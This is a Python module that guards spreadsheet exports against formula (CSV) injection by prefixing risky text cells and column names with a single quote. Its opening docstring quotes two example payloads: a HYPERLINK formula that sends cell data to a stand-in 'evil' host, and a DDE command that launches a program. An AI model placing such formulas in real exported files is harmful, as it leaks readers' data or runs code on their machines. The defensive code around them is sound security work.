"""Tables leaving the app as spreadsheets: text that Excel or LibreOffice would run as a formula stays text.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms),
a tab, a carriage return, a line feed or a NUL may be read as a formula when a
CSV file is opened in a spreadsheet program, and openpyxl writes a string that
starts with ``=`` into an .xlsx file as a live formula. An imported name such
as ``=HYPERLINK("http://evil/?"&A1,"点击")`` or ``=cmd|' /C calc'!A0`` would
then leak data or run a program on the reader's machine. As OWASP and CWE-1236
recommend, such text cells get a leading single quote (``'``), which shows
the rest as typed. Numbers (numeric columns, and text that is a plain decimal
number such as ``-5`` or ``+3.5``) are left alone: they cannot run anything.
"""

from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_LEADING_SPACE = " \u00a0\u3000"


def neutralise_cell(value: object) -> object:
    """Return ``value`` with a leading ``'`` when it is text a spreadsheet could read as a formula.

    Parameters
    ----------
    value
        A cell; anything that is not a ``str`` is returned unchanged.

    Returns
    -------
    object
        ``"'" + value`` for text that starts (after spaces) with a formula
        character and is not a plain number; else ``value`` itself.
    """
    if not isinstance(value, str):
        return value
    if value.lstrip(_LEADING_SPACE).startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells and column names cannot run as spreadsheet formulas.

    Parameters
    ----------
    frame
        Any table; numeric, boolean and date columns pass through unchanged.

    Returns
    -------
    pandas.DataFrame
        The same shape, with :func:`neutralise_cell` applied to every cell of
        every text (object or string) column and to the column names.
    """
    out = frame.copy()
    for position, dtype in enumerate(out.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.isetitem(position, out.iloc[:, position].map(neutralise_cell))
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out
